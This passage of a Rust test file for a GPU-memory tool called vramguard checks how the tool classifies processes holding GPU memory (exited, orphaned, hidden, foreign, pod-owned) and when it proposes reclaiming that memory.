        h.evidence
            .iter()
            .any(|e| e.starts_with("no sign of work over "))
    };
    let gone = dead_trainer_with_forked_workers(446, 446);
    let k = holder_of(&gone, 576);
    assert_eq!(k.keeps_alive, Some(446));
    assert!(k.dead_job.is_some(), "{k:#?}");
    assert_eq!(
        k.action.summary,
        "its job is gone and it does no work: terminate it (SIGTERM, then SIGKILL)"
    );
    assert_eq!(
        k.action.command.as_deref(),
        Some("vramguard reclaim --gpu 0 --include hidden")
    );
    assert!(work_line(&k), "{:?}", k.evidence);
    // The same workers in the process group of the script that still runs (436): tied by
    // elimination alone, the action says the tie is not confirmed.
    let alive = dead_trainer_with_forked_workers(436, 436);
    let k = holder_of(&alive, 576);
    assert_eq!(k.keeps_alive, Some(446));
    assert!(k.dead_job.is_none(), "{k:#?}");
    assert!(
        k.action
            .summary
            .starts_with("it may keep exited pid 446's context (nothing confirms"),
        "{:?}",
        k.action
    );
    assert!(
        k.evidence[0].starts_with("may keep alive (a tie not confirmed) the context"),
        "{:?}",
        k.evidence
    );
    assert!(work_line(&k), "{:?}", k.evidence);
}

/// The persistence daemon holds every GPU's device file and `/dev/nvidia-uvm` without a
/// context the driver lists: it is no possible keeper of an exited pid's context, so the
/// exited pid's memory is residue that no process holds.
#[test]
fn the_persistence_daemon_is_no_possible_keeper_of_an_exited_pids_context() {
    let mut daemon = proc_(900, 1, 900, "nvidia-persiste", &[0]);
    daemon.uid = Some(0);
    daemon.user = Some("root".into());
    daemon.cmdline = Some(vec!["/usr/bin/nvidia-persistenced".into()]);
    daemon.exe = Some(ExeFacts {
        path: "/usr/bin/nvidia-persistenced".into(),
        deleted: false,
        owner_uid: 0,
        mode: 0o100755,
    });
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(446, Some(4 * GIB))])],
        vec![init(), daemon],
    );
    let r = classify(&s, &Policy::default());
    let exited = r.gpus[0].holders.iter().find(|h| h.pid == 446).unwrap();
    assert_eq!(exited.class, Class::Exited);
    assert!(exited.keepers.is_empty(), "{exited:#?}");
    let ev = exited.evidence.join("\n");
    assert!(!ev.contains("900"), "{ev}");
    let daemon = r.gpus[0].holders.iter().find(|h| h.pid == 900).unwrap();
    assert_eq!(daemon.class, Class::System, "{daemon:#?}");
}

/// A re-parented worker tied to the only exited pid by re-parenting alone (a weak tie) is its
/// keeper unless a live process listed on a GPU shares its process group or its session (whose
/// context it may have inherited instead). A listed process of another group and session, or
/// a zombie kin, changes nothing.
#[test]
fn a_weak_keeper_tie_is_undone_only_by_live_listed_kin_in_its_group_or_session() {
    let base = dead_trainer_with_forked_workers(436, 436);
    // 700 is listed on GPU 1; `group` and `session` are its process group and session, and
    // `state` its state.
    let with_listed = |group: u32, session: u32, state: char| {
        let mut s = base.clone();
        s.gpus.push(gpu(1, 10 * GIB, &[(700, Some(10 * GIB))]));
        let mut listed = proc_(700, 1, group, "python3", &[1]);
        listed.sid = Some(session);
        listed.state = Some(state);
        if state == 'Z' {
            make_pure_zombie(&mut listed);
        }
        s.processes.push(listed);
        s.normalize();
        s.work = Some(WorkWindow::all_idle(&s, 2000));
        let r = classify(&s, &Policy::default());
        let k = r.gpus[0].holders.iter().find(|h| h.pid == 576).unwrap();
        k.keeps_alive
    };
    assert_eq!(
        with_listed(700, 700, 'S'),
        Some(446),
        "another group and session"
    );
    assert_eq!(with_listed(436, 700, 'S'), None, "its process group");
    assert_eq!(with_listed(700, 436, 'S'), None, "its session");
    assert_eq!(
        with_listed(436, 436, 'Z'),
        Some(446),
        "a zombie of its group"
    );
}

/// Keepers are named only when every process's open files were read (a full scan, by a
/// reader that sees every process): an unread one could hold the exited pid's context as well.
#[test]
fn no_keeper_is_named_unless_every_process_s_open_files_were_read() {
    let mut s = dead_trainer_with_forked_workers(446, 446);
    s.scan.full_fd_scan = false;
    let r = classify(&s, &Policy::default());
    for pid in [576, 577] {
        let k = r.gpus[0].holders.iter().find(|h| h.pid == pid).unwrap();
        assert_eq!(k.keeps_alive, None, "{k:#?}");
    }
    let exited = r.gpus[0].holders.iter().find(|h| h.pid == 446).unwrap();
    assert!(exited.kept_by_unseen, "{exited:#?}");
}

/// A worker forked by another unlisted holder (577 by 576, 576 re-parented): its tie goes
/// through that ancestor, whose parent died.
#[test]
fn a_keeper_forked_by_another_keeper_is_tied_through_its_ancestor() {
    let mut s = dead_trainer_with_forked_workers(446, 446);
    for p in s.processes.iter_mut().filter(|p| p.pid == 577) {
        p.ppid = Some(576);
    }
    s.normalize();
    let r = classify(&s, &Policy::default());
    let k = r.gpus[0].holders.iter().find(|h| h.pid == 577).unwrap();
    assert_eq!(k.keeps_alive, Some(446), "{k:#?}");
    assert!(
        k.evidence[0].contains("(through its ancestor 576 (python3))"),
        "{:?}",
        k.evidence
    );
}

/// An exited pid that a collection saw leave is shown by the name and command it had.
#[test]
fn an_exited_pid_seen_leaving_is_shown_by_its_name_and_command() {
    let mut s = dead_trainer_with_forked_workers(446, 446);
    s.departed.push(DepartedProcess {
        start_ticks: None,
        uid: None,
        pid: 446,
        comm: Some("python3".into()),
        cmdline: Some(vec!["python3".into(), "train.py".into()]),
        gone_at_ms: NOW_MS - 5000,
    });
    let h = holder_of(&s, 446);
    assert_eq!(h.class, Class::Exited);
    assert_eq!(h.comm.as_deref(), Some("python3"));
    assert_eq!(h.command.as_deref(), Some("python3 train.py"));
}

/// A worker that an earlier collection saw forked by the exited pid is tied to it directly
/// (a strong tie), also when its own ancestor among the holders was not seen so.
#[test]
fn a_keeper_seen_forked_by_the_exited_pid_is_tied_to_it_directly() {
    // The script's group: nothing but the earlier parent ties the workers to 446.
    let mut s = dead_trainer_with_forked_workers(436, 436);
    for p in s.processes.iter_mut() {
        if p.pid == 577 {
            p.ppid = Some(576);
            p.earlier_ppid = Some(446);
        }
    }
    s.normalize();
    // Not confirmed to be the same process (no start time recorded): a tie, but not direct.
    let k = holder_of(&s, 577);
    assert_eq!(k.keeps_alive, Some(446), "{k:#?}");
    assert!(k.keeps_alive_unconfirmed, "{k:#?}");
    assert!(
        k.evidence[0].contains("whether the exited pid 446 is that same process could not"),
        "{:?}",
        k.evidence
    );
    // The departed 446 started when the parent seen did: the same process, a direct tie.
    let mut same = s.clone();
    same.processes
        .iter_mut()
        .find(|p| p.pid == 577)
        .unwrap()
        .earlier_parent_start_ticks = Some(4460);
    same.departed.push(DepartedProcess {
        pid: 446,
        comm: Some("python3".into()),
        cmdline: None,
        gone_at_ms: NOW_MS - 5000,
        start_ticks: Some(4460),
        uid: None,
    });
    let k = holder_of(&same, 577);
    assert_eq!(k.keeps_alive, Some(446), "{k:#?}");
    assert!(!k.keeps_alive_unconfirmed, "{k:#?}");
    assert!(
        k.evidence[0].contains("was forked by it (an earlier collection saw the parent)"),
        "{:?}",
        k.evidence
    );
    // The last 446 to leave started later: the pid was reused since the parent died, and the
    // worker was never forked by the exited 446 (red team: another user's trainer may have
    // taken the pid). Nothing directly ties them.
    let mut reused = same.clone();
    reused.departed.last_mut().unwrap().start_ticks = Some(9999);
    let k = holder_of(&reused, 577);
    assert!(
        !k.evidence.iter().any(|e| e.contains("was forked by it")),
        "{:?}",
        k.evidence
    );
    assert!(
        k.keeps_alive.is_none() || k.keeps_alive_unconfirmed,
        "{k:#?}"
    );
}

/// Red team: an idle process of a live job, re-parented on a GPU where another user's pid
/// exited with its context listed, is no default target (the tie by elimination names it
/// the keeper of a context that is not its); with the other user's exit recorded, or with
/// another process tied to that pid directly, it is not even called a keeper.
#[test]
fn a_re_parented_process_of_a_live_job_is_no_default_target_as_another_users_keeper() {
    // Bob's script 436 runs; his helper 576 (ran cuInit, holds nvidia0 and uvm) was
    // re-parented when its spawner died. Alice's trainer 446 exited, listed with 20 GiB.
    let mut script = proc_(436, 1, 436, "bash", &[]);
    script.sid = Some(436);
    script.uid = Some(1000);
    let mut helper = proc_(576, 1, 436, "python3", &[0]);
    helper.sid = Some(436);
    helper.uid = Some(1000);
    let s = snapshot(
        vec![gpu(0, 20 * GIB, &[(446, Some(20 * GIB))])],
        vec![init(), script, helper],
    );
    let plan_of = |s: &Snapshot, include_keepers: bool| {
        let r = classify(s, &Policy::default());
        let opts = vramguard_core::plan::ReclaimOptions {
            include_keepers,
            ..Default::default()
        };
        vramguard_core::plan::plan_reclaim(s, &r, &opts)
            .targets()
            .map(|t| t.pid)
            .collect::<Vec<u32>>()
    };
    assert!(plan_of(&s, false).is_empty());
    let k = holder_of(&s, 576);
    assert!(k.keeps_alive_unconfirmed, "{k:#?}");
    // Alice's exit was seen: another uid, so no child of hers.
    let mut seen = s.clone();
    seen.departed.push(DepartedProcess {
        pid: 446,
        comm: Some("python3".into()),
        cmdline: None,
        gone_at_ms: NOW_MS - 5000,
        start_ticks: Some(4460),
        uid: Some(1001),
    });
    let k = holder_of(&seen, 576);
    assert_eq!(k.keeps_alive, None, "{k:#?}");
    assert!(
        k.evidence
            .iter()
            .any(|e| e.contains("was another user's process")),
        "{:?}",
        k.evidence
    );
    assert!(
        plan_of(&seen, true).is_empty(),
        "not even with --include keepers"
    );
    // Seen forked by a process with pid 446 whose start time was not read: no tie to the
    // exited 446 either, once that pid is known to have been another user's.
    let mut forked = seen.clone();
    forked
        .processes
        .iter_mut()
        .find(|p| p.pid == 576)
        .unwrap()
        .earlier_ppid = Some(446);
    let k = holder_of(&forked, 576);
    assert_eq!(k.keeps_alive, None, "{k:#?}");
    assert!(plan_of(&forked, true).is_empty(), "{k:#?}");
    // Alice's own forked worker 500 keeps it (in the group 446 led): it is the keeper.
    let mut worker = proc_(500, 1, 446, "python3", &[0]);
    worker.sid = Some(446);
    worker.uid = Some(1001);
    let mut kept = s.clone();
    kept.processes.push(worker);
    kept.normalize();
    kept.work = Some(WorkWindow::all_idle(&kept, 2000));
    let k = holder_of(&kept, 576);
    assert_eq!(k.keeps_alive, None, "{k:#?}");
    assert!(
        k.evidence
            .iter()
            .any(|e| e.contains("tied to 446 directly")),
        "{:?}",
        k.evidence
    );
    assert_eq!(holder_of(&kept, 500).keeps_alive, Some(446));
    assert!(!plan_of(&kept, true).contains(&576));
}

/// What a listed pid that maps to no holder here is taken for, branch by branch of the
/// resolution (`classify.rs`, `resolve`): exited (reused by a process holding no device file,
/// when every process's files were read) or foreign, and the reason each foreign pid gives.
#[test]
fn a_listed_pid_reused_by_an_ordinary_process_is_exited_only_when_every_file_was_read() {
    let mut reused = proc_(4121, 1, 4121, "bash", &[]);
    reused.cmdline = Some(vec!["bash".into()]);
    let s = snapshot(
        vec![gpu(0, 8 * GIB, &[(4121, Some(8 * GIB))])],
        vec![init(), reused],
    );
    let h = holder_of(&s, 4121);
    assert_eq!(h.class, Class::Exited, "{h:#?}");
    assert!(
        h.evidence[0].contains("bash (another process)"),
        "{:?}",
        h.evidence
    );
    // Seen as a user who sees every process but not their open files: the reused pid might
    // be a holder after all.
    let mut partial = s.clone();
    partial.host.euid = 1000;
    let mut other = proc_(4200, 1, 4200, "python3", &[]);
    other.uid = Some(2000);
    other.device_files = FdScan::Denied;
    partial.processes.push(other);
    partial.normalize();
    let h = holder_of(&partial, 4121);
    assert_eq!(h.class, Class::Foreign, "{h:#?}");
    assert!(
        h.evidence[0].contains("pid 4121 here is bash (another process)"),
        "{:?}",
        h.evidence
    );
}

#[test]
fn each_foreign_pid_says_why_it_cannot_be_mapped() {
    let why = |s: &Snapshot, pid: u32| {
        let h = holder_of(s, pid);
        assert_eq!(h.class, Class::Foreign, "{h:#?}");
        h.evidence[0].clone()
    };
    let base = snapshot(
        vec![gpu(0, 8 * GIB, &[(4121, Some(8 * GIB))])],
        vec![init()],
    );

    // In a container, the driver lists host pids.
    let mut container = base.clone();
    container.host.pid_namespace_is_host = Some(false);
    let w = why(&container, 4121);
    assert!(w.contains("vramguard runs in a container"), "{w}");

    // On the host, but /proc hides other users' processes: whether it lives is unknown.
    let mut hidden = base.clone();
    hidden.host.euid = 1000;
    let w = why(&hidden, 4121);
    assert!(w.contains("(hidepid)"), "{w}");

    // Where the namespace is unknown, both readings are given.
    let mut unknown = hidden.clone();
    unknown.host.pid_namespace_is_host = None;
    let w = why(&unknown, 4121);
    assert!(
        w.contains("has exited, or the driver reports a pid from another PID namespace"),
        "{w}"
    );

    // Seen exiting: a teardown under way, and one that never ended.
    for (ago_ms, says) in [
        (5_000, "tearing the context down"),
        (600_000, "never torn down"),
    ] {
        let mut departed = hidden.clone();
        departed.departed.push(DepartedProcess {
            start_ticks: None,
            uid: None,
            pid: 4121,
            comm: Some("python3".into()),
            cmdline: None,
            gone_at_ms: NOW_MS - ago_ms,
        });
        let w = why(&departed, 4121);
        assert!(w.contains("pid 4121 (python3) exited"), "{w}");
        assert!(w.contains(says), "{ago_ms} ms: {w}");
    }

    // Two processes of nested namespaces have the pid there: it cannot be mapped to either.
    let mut twins = base.clone();
    for (pid, leader) in [(5123, 5100), (6123, 6100)] {
        let mut inside = proc_(pid, leader, leader, "python", &[0]);
        inside.nspid = vec![pid, 4121];
        twins.processes.push(proc_(leader, 1, leader, "bash", &[]));
        twins.processes.push(inside);
    }
    twins.normalize();
    let w = why(&twins, 4121);
    assert!(
        w.contains("2 processes have pid 4121 inside their namespace"),
        "{w}"
    );
}

/// In a container, a pid seen exiting here is what the driver means only when the driver is
/// seen listing this namespace's pids: another listed pid that is a holder here. A listed pid
/// that is no process here, or a process here holding no device file, shows nothing of the
/// kind (`departed_listed`).
#[test]
fn in_a_container_an_exit_seen_here_explains_a_listed_pid_only_when_the_driver_lists_our_pids() {
    let with_other = |other: Option<ProcessFacts>| {
        let mut s = snapshot(
            vec![gpu(
                0,
                10 * GIB,
                &[(4121, Some(8 * GIB)), (7777, Some(2 * GIB))],
            )],
            vec![init()],
        );
        s.host.pid_namespace_is_host = Some(false);
        s.departed.push(DepartedProcess {
            start_ticks: None,
            uid: None,
            pid: 4121,
            comm: Some("python3".into()),
            cmdline: None,
            gone_at_ms: NOW_MS - 5_000,
        });
        s.processes.extend(other);
        s.normalize();
        holder_of(&s, 4121).evidence[0].clone()
    };
    let container = "vramguard runs in a container and the driver reports host pids";
    // 7777 is no process here: the driver's pids are the host's.
    let w = with_other(None);
    assert!(w.contains(container), "{w}");
    // 7777 is a process here, but holds no device file: a host pid that collides.
    let w = with_other(Some(proc_(7777, 1, 7777, "sshd", &[])));
    assert!(w.contains(container), "{w}");
    // 7777 is a holder here: the driver lists our pids, and 4121 is the one seen exiting.
    let w = with_other(Some(proc_(7777, 1, 7777, "python3", &[0])));
    assert!(w.contains("pid 4121 (python3) exited 5.0s ago"), "{w}");
    assert!(
        w.contains("its context outlives it"),
        "exited, not foreign: {w}"
    );
}

/// A teardown is "in progress" up to and including [`STALE_TEARDOWN_MS`] after the exit.
#[test]
fn a_teardown_is_stale_only_after_the_whole_allowance() {
    use vramguard_core::classify::STALE_TEARDOWN_MS;
    let mut s = snapshot(
        vec![gpu(0, 8 * GIB, &[(4121, Some(8 * GIB))])],
        vec![init()],
    );
    s.host.euid = 1000;
    for (ago, says) in [
        (STALE_TEARDOWN_MS, "tearing the context down"),
        (STALE_TEARDOWN_MS + 1, "never torn down"),
    ] {
        let mut at = s.clone();
        at.departed.push(DepartedProcess {
            start_ticks: None,
            uid: None,
            pid: 4121,
            comm: Some("python3".into()),
            cmdline: None,
            gone_at_ms: NOW_MS - ago,
        });
        let h = holder_of(&at, 4121);
        assert!(h.evidence[0].contains(says), "{ago} ms: {:?}", h.evidence);
    }
}

/// Whom an exited pid names as its (possible) keepers: its own keepers, never another exited
/// pid's; and, when none is tied to it, the unlisted holders of a context here that nothing
/// ties to any exited pid (files received from another process, a child of a live parent).
#[test]
fn an_exited_pid_names_only_its_own_or_untied_possible_keepers() {
    // 446 led the group its workers 576 and 577 are in; 900 is listed too, with no process.
    let mut s = dead_trainer_with_forked_workers(446, 446);
    s.gpus[0] = gpu(0, 30 * GIB, &[(446, Some(20 * GIB)), (900, Some(10 * GIB))]);
    s.normalize();
    let r = classify(&s, &Policy::default());
    let exited = |pid: u32| r.gpus[0].holders.iter().find(|h| h.pid == pid).unwrap();
    assert_eq!(exited(446).keepers, vec![576, 577]);
    assert!(exited(900).keepers.is_empty(), "{:#?}", exited(900));

    // A holder of GPU 0's context that a live parent started: tied to no exited pid, but it
    // may keep 446's context (the device files came from somewhere).
    let mut untied = snapshot(
        vec![gpu(0, 20 * GIB, &[(446, Some(20 * GIB))])],
        vec![init(), proc_(436, 1, 436, "bash", &[])],
    );
    untied.processes.push(proc_(700, 436, 436, "python3", &[0]));
    untied.normalize();
    untied.work = Some(WorkWindow::all_idle(&untied, 2000));
    let h = holder_of(&untied, 446);
    assert_eq!(h.class, Class::Exited);
    assert_eq!(h.keepers, vec![700], "{h:#?}");
    assert!(
        h.evidence
            .iter()
            .any(|e| e.contains("possibly kept alive by 700")),
        "{:?}",
        h.evidence
    );
}

/// An orphan (its job's leader 200 is gone) under the default policy, with one worker 202 of
/// its job beside it; both idle over a window of `observed_ms`.
fn orphan_with_sibling(observed_ms: u64) -> Snapshot {
    let mut s = snapshot(
        vec![gpu(0, 4 * GIB, &[(201, Some(4 * GIB))])],
        vec![
            init(),
            proc_(201, 1, 200, "python", &[0]),
            proc_(202, 201, 200, "python", &[]),
        ],
    );
    s.work = Some(WorkWindow::all_idle(&s, observed_ms));
    s
}

fn sample_of(s: &mut Snapshot, pid: u32) -> &mut WorkSample {
    let w = s.work.as_mut().unwrap();
    w.processes.iter_mut().find(|w| w.pid == pid).unwrap()
}

/// Idle needs a window of at least `work_min_window_ms`: shorter, the work is unknown and
/// nothing is reclaimed (`process_work`'s window rule, at its boundary).
#[test]
fn idleness_needs_the_whole_minimum_window() {
    let min = Policy::default().work_min_window_ms;
    let h = holder_of(&orphan_with_sibling(min), 201);
    assert_eq!(h.class, Class::Orphan, "{h:#?}");
    assert!(h.action.reclaimable);
    let h = holder_of(&orphan_with_sibling(min - 1), 201);
    assert!(!h.action.reclaimable, "{h:#?}");
    assert!(
        h.evidence.iter().any(|e| e.contains("observed for only")),
        "{:?}",
        h.evidence
    );
}

/// Threads running in more than half of at least three observations are work; exactly half
/// is not.
#[test]
fn running_threads_are_work_only_in_more_than_half_the_observations() {
    for (running, works) in [(2, false), (3, true)] {
        let mut s = orphan_with_sibling(2000);
        let w = sample_of(&mut s, 201);
        w.observations = 4;
        w.running_observations = running;
        let h = holder_of(&s, 201);
        assert_eq!(h.action.reclaimable, !works, "{running} of 4: {h:#?}");
    }
}

/// A process of the dead job whose work is unknown (not observed) makes the job's work
/// unknown: an idle holder beside it is not reclaimed (`job_work`).
#[test]
fn a_job_member_whose_work_is_unknown_keeps_the_holder_from_being_reclaimed() {
    let mut s = orphan_with_sibling(2000);
    s.work.as_mut().unwrap().processes.retain(|w| w.pid != 202);
    let h = holder_of(&s, 201);
    assert!(!h.action.reclaimable, "{h:#?}");
    assert!(
        h.evidence
            .iter()
            .any(|e| e.contains("of its job: it was not observed in the sampling window")),
        "{:?}",
        h.evidence
    );
}

/// vramguard itself, a descendant of a holder (`vramguard run` asking about its own job, a
/// shell's `vramguard status`), is not weighed as the job's work.
#[test]
fn vramguard_itself_is_not_weighed_as_its_ancestors_work() {
    let mut s = orphan_with_sibling(2000);
    let mut me = proc_(999_999, 201, 200, "vramguard", &[]);
    me.cmdline = Some(vec!["vramguard".into(), "status".into()]);
    s.processes.push(me);
    s.normalize();
    // Not observed (vramguard does not watch itself): its work would be unknown.
    let h = holder_of(&s, 201);
    assert!(h.action.reclaimable, "{h:#?}");
}

/// A job leader's pid now held by a live process of another group is a reused pid; a zombie
/// leader of the group is a dead one (`group_job_view`).
#[test]
fn a_leader_pid_reused_outside_the_group_or_a_zombie_leader_leaves_the_job_gone() {
    let zombie = |pgid: u32| {
        let mut z = proc_(200, 1, pgid, "python", &[]);
        make_pure_zombie(&mut z);
        z
    };
    // The third: a zombie, but of another group (the pid was reused, then that one died).
    for leader in [proc_(200, 1, 7000, "sshd", &[]), zombie(200), zombie(7000)] {
        let mut s = orphan_with_sibling(2000);
        s.processes.push(leader.clone());
        s.normalize();
        s.work = Some(WorkWindow::all_idle(&s, 2000));
        let h = holder_of(&s, 201);
        assert_eq!(h.class, Class::Orphan, "leader {leader:?}: {h:#?}");
        assert_eq!(
            h.dead_job.as_ref().unwrap().leader_is_zombie,
            leader.state == Some('Z') && leader.pgid == Some(200)
        );
    }
}

/// A tree re-parented to a supervisor that is itself a zombie, or to vramguard, is not kept
/// alive by it (`adopted_by_supervisor`).
#[test]
fn a_dead_or_self_supervisor_keeps_no_adopted_tree_alive() {
    for (pid, comm, state) in [(60, "tini", 'Z'), (999_999, "vramguard", 'S')] {
        let mut s = orphan_with_sibling(2000);
        let mut sup = proc_(pid, 1, pid, comm, &[]);
        sup.state = Some(state);
        if state == 'Z' {
            make_pure_zombie(&mut sup);
        }
        sup.cmdline = Some(if comm == "tini" {
            vec!["tini".into(), "--".into(), "python3".into()]
        } else {
            vec![
                "vramguard".into(),
                "run".into(),
                "--".into(),
                "python3".into(),
            ]
        });
        s.processes.push(sup);
        for p in s.processes.iter_mut().filter(|p| p.pid == 201) {
            p.ppid = Some(pid);
        }
        s.normalize();
        s.work = Some(WorkWindow::all_idle(&s, 2000));
        let h = holder_of(&s, 201);
        assert_eq!(h.class, Class::Orphan, "{comm} ({state}): {h:#?}");
    }
}

/// A process group led from outside this PID namespace (pgid 0) is labelled by its pid.
#[test]
fn a_group_led_from_outside_the_namespace_is_labelled_by_pid() {
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(201, Some(4 * GIB))])],
        vec![init(), proc_(201, 1, 0, "python", &[0])],
    );
    let h = holder_of(&s, 201);
    assert_eq!(h.job.as_ref().unwrap().label, "pid:201", "{h:#?}");
}

/// A departed leader with an empty command line is shown by its name.
#[test]
fn a_departed_leader_without_a_command_line_is_shown_by_its_name() {
    let mut s = orphan_with_sibling(2000);
    s.departed.push(DepartedProcess {
        start_ticks: None,
        uid: None,
        pid: 200,
        comm: Some("sh".into()),
        cmdline: Some(vec![]),
        gone_at_ms: NOW_MS - 5000,
    });
    let h = holder_of(&s, 201);
    assert_eq!(
        h.dead_job.as_ref().unwrap().leader_command.as_deref(),
        Some("sh"),
        "{h:#?}"
    );
}

/// A container job whose init lives is alive on that evidence.
#[test]
fn a_container_whose_init_lives_is_alive_by_its_init() {
    let id = "cd34".repeat(16);
    let mut p = proc_(701, 1, 701, "python", &[0]);
    p.cgroup = Some(format!("/system.slice/docker-{id}.scope"));
    p.container = Some(ContainerRef {
        runtime: "docker".into(),
        id,
        name: None,
    });
    let mut s = snapshot(vec![gpu(0, GIB, &[(701, Some(GIB))])], vec![init(), p]);
    let root = s.processes[1].cgroup.clone().unwrap();
    s.job_cgroups.push(JobCgroupFacts {
        root,
        readable: true,
        members: 2,
        namespace_inits: vec![650],
        step_daemons: vec![],
        nested_pid_namespace: false,
        complete: true,
        owner_uid: Some(0),
    });
    let h = holder_of(&s, 701);
    let job = h.job.as_ref().unwrap();
    assert_eq!(job.alive, Some(true), "{h:#?}");
    assert!(job.evidence.contains("whose init 650 lives"), "{job:?}");
}

/// A hidden holder of a live job that works is told to ask its owner, like an idle one.
#[test]
fn a_working_hidden_holder_of_a_live_job_is_its_owners() {
    let mut s = snapshot(
        vec![gpu(0, 10 * GIB, &[])],
        vec![init(), proc_(700, 50, 700, "python", &[0])],
    );
    sample_of(&mut s, 700).cpu_ticks = 200;
    let h = holder_of(&s, 700);
    assert_eq!(h.class, Class::Hidden);
    assert_eq!(
        h.action.summary, "its job is alive: ask its owner before stopping it",
        "{h:#?}"
    );
}

/// Pod names from the kubelet's device allocations (`name_pods`): a GPU allocated to exactly
/// one container and held by processes of one pod UID is named; a GPU allocated to two
/// containers, or held by two pod UIDs, or whose allocation names another GPU, stays by UID.
#[test]
fn a_gpu_held_by_one_pod_and_allocated_to_one_container_is_named_and_nothing_less_certain() {
    let uuid0 = "GPU-00000000-0000-0000-0000-000000000000";
    let pod = |name: &str, devices: Vec<String>| KubePod {
        namespace: "ml".into(),
        name: name.into(),
        containers: vec![KubeContainer {
            name: "trainer".into(),
            devices,
        }],
    };
    let case = |pods: Vec<KubePod>, uids: [&str; 2]| {
        let mut s = snapshot(
            vec![gpu(
                0,
                8 * GIB,
                &[(701, Some(4 * GIB)), (702, Some(4 * GIB))],
            )],
            vec![
                init(),
                proc_(701, 1, 701, "python", &[0]),
                proc_(702, 1, 702, "python", &[0]),
            ],
        );
        for (p, uid) in s.processes.iter_mut().skip(1).zip(uids) {
            p.pod_uid = Some(uid.into());
        }
        s.kubelet_pods = Some(pods);
        let r = classify(&s, &Policy::default());
        r.gpus[0]
            .holders
            .iter()
            .map(|h| {
                h.pod
                    .as_ref()
                    .map(|p| format!("{}/{}/{}", p.namespace, p.name, p.container))
            })
            .collect::<Vec<_>>()
    };
    let named = Some("ml/train-0/trainer".to_string());
    // One container has this GPU (a MIG or time-slice suffix after `::` still names it).
    assert_eq!(
        case(
            vec![pod("train-0", vec![format!("{uuid0}::1")])],
            ["u1", "u1"]
        ),
        vec![named.clone(), named.clone()]
    );
    // Its only allocation is another GPU.
    assert_eq!(
        case(vec![pod("train-0", vec!["GPU-ffff".into()])], ["u1", "u1"]),
        vec![None, None]
    );
    // Two pods have it.
    assert_eq!(
        case(
            vec![
                pod("train-0", vec![uuid0.into()]),
                pod("train-1", vec![uuid0.into()])
            ],
            ["u1", "u1"]
        ),
        vec![None, None]
    );
    // Two pod UIDs hold it (the old pod's orphan and the new pod).
    assert_eq!(
        case(vec![pod("train-0", vec![uuid0.into()])], ["u1", "u2"]),
        vec![None, None]
    );
    // The same container listed twice is one owner.
    let mut twice = pod("train-0", vec![uuid0.into()]);
    twice.containers.push(twice.containers[0].clone());
    assert_eq!(case(vec![twice], ["u1", "u1"]), vec![named.clone(), named]);
}

/// The keepers of an exited pid's context in a live job are watched for `status` too: whether
/// they may go rests on their work.
#[test]
fn keepers_in_a_live_job_are_watched_for_classes() {
    let s = dead_trainer_with_forked_workers(436, 436);
    let r = classify(&s, &Policy::default());
    let watched = vramguard_core::work_watch_list(&s, &Policy::default(), &r, WatchFor::Classes);
    assert!(
        watched.contains(&576) && watched.contains(&577),
        "{watched:?}"
    );
}

/// vramguard itself, listed by the driver (it holds the device while it asks), is no holder;
/// a pid the driver lists twice (two kinds of context) is one holder (`gpu_report`).
#[test]
fn vramguard_itself_is_no_holder_and_a_pid_listed_twice_is_one() {
    let mut s = snapshot(
        vec![gpu(
            0,
            6 * GIB,
            &[(100, Some(4 * GIB)), (100, Some(GIB)), (999_999, Some(GIB))],
        )],
        vec![
            init(),
            proc_(100, 50, 100, "python", &[0]),
            proc_(999_999, 1, 999_999, "vramguard", &[0]),
        ],
    );
    s.normalize();
    let r = classify(&s, &Policy::default());
    let pids: Vec<u32> = r.gpus[0].holders.iter().map(|h| h.pid).collect();
    assert_eq!(pids, vec![100], "{:#?}", r.gpus[0].holders);
}

/// A pid the driver still lists long after it exited, that no process keeps, is residue: its
/// bytes are not "accounted for" by anyone. An exited pid whose keepers hold it is accounted
/// for, however long ago it exited; so is a pid whose teardown may still be under way.
#[test]
fn stale_listings_without_keepers_are_residue_and_kept_ones_are_accounted_for() {
    let gone = |ago_ms: u64| DepartedProcess {
        start_ticks: None,
        uid: None,
        pid: 4121,
        comm: Some("python3".into()),
        cmdline: None,
        gone_at_ms: NOW_MS - ago_ms,
    };
    let accounted = |s: &Snapshot| classify(s, &Policy::default()).gpus[0].accounted_bytes;
    // Exited (root sees everything), no keeper, ten minutes ago: residue.
    let mut exited = snapshot(
        vec![gpu(0, 8 * GIB, &[(4121, Some(8 * GIB))])],
        vec![init()],
    );
    exited.departed.push(gone(600_000));
    assert_eq!(holder_of(&exited, 4121).class, Class::Exited);
    assert_eq!(accounted(&exited), 0);
    // Five seconds ago: a teardown, still accounted for.
    let mut fresh = exited.clone();
    fresh.departed = vec![gone(5_000)];
    assert_eq!(accounted(&fresh), 8 * GIB);
    // Foreign (hidepid hides whether it lives), ten minutes ago: residue too.
    let mut foreign = exited.clone();
    foreign.host.euid = 1000;
    assert_eq!(holder_of(&foreign, 4121).class, Class::Foreign);
    assert_eq!(accounted(&foreign), 0);
    // Kept alive by the workers it forked: accounted for.
    let mut kept = dead_trainer_with_forked_workers(446, 446);
    kept.departed.push(DepartedProcess {
        start_ticks: None,
        uid: None,
        pid: 446,
        ..gone(600_000)
    });
    assert_eq!(holder_of(&kept, 446).keepers, vec![576, 577]);
    assert_eq!(accounted(&kept), 20 * GIB);
}

/// Each MIG device's memory that its listed processes do not account for, above the
/// tolerance, is its unaccounted (and ghost) memory; within the tolerance, none.
#[test]
fn a_mig_devices_unaccounted_memory_is_what_its_processes_leave_above_the_tolerance() {
    let tolerance = Policy::default().tolerance_for(20 * GIB);
    let report = |used: u64| {
        let mut g = gpu(0, used, &[(300, Some(4 * GIB))]);
        g.mig_devices = vec![MigDeviceSample {
            gpu_instance: Some(1),
            compute_instance: Some(0),
            uuid: Some("MIG-0000".into()),
            name: Some("1g.20gb".into()),
            memory: Some(GpuMemory {
                total: 20 * GIB,
                reserved: 0,
                used,
                free: 20 * GIB - used,
            }),
            processes: vec![GpuProcess {
                pid: 300,
                kinds: vec![ProcessKind::Compute],
                used_bytes: Some(4 * GIB),
            }],
        }];
        let s = snapshot(vec![g], vec![init(), proc_(300, 50, 300, "python", &[0])]);
        classify(&s, &Policy::default()).gpus[0].mig_devices.clone()
    };
    let over = report(4 * GIB + tolerance + 1);
    assert_eq!(over.len(), 1);
    assert_eq!(over[0].holders, vec![300]);
    assert_eq!(over[0].unaccounted_bytes, tolerance + 1);
    assert_eq!(over[0].ghost_bytes, tolerance + 1);
    let at = report(4 * GIB + tolerance);
